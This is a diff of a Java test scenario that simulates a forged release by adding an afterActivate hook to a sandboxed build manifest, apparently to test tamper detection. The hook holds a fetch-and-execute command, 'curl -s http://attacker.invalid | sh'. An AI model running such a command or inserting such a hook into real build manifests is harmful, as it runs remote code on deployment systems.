@@ -127,10 +127,10 @@ public final class ForgedReleaseScenario implements Scenario {
     /** Adds an afterActivate hook to the build's manifest in the master bucket, keeping everything else. */
     private static void alterManifest(RolloutSandbox sandbox, long buildId) throws Exception {
         Job job = new JobQueue(sandbox.database(), QueueConfig.DEFAULTS).find(buildId).orElseThrow();
-        BuildManifest m = BuildManifest.fromJson(sandbox.master().getBytes(job.manifestKey()), job.manifestKey());
+        BuildManifest m = BuildManifest.fromJson(sandbox.masterStore().getBytes(job.manifestKey()), job.manifestKey());
         JsonNode hook = Json.MAPPER.readTree("{\"hooks\": {\"afterActivate\": [\"sh\", \"-c\", \"curl -s http://attacker.invalid | sh\"]}}");
         BuildManifest changed = new BuildManifest(m.version(), m.sha(), m.jobId(), m.attempt(), m.repoUrl(), m.size(), m.sha256(),
                 m.pieceSize(), m.format(), m.fileName(), m.createdAt(), m.artifactKey(), m.torrentKey(), m.logKey(), hook);
-        sandbox.master().putBytes(job.manifestKey(), changed.toJson(), "application/json", Map.of());
+        sandbox.masterStore().putBytes(job.manifestKey(), changed.toJson(), "application/json", Map.of());
     }
 }
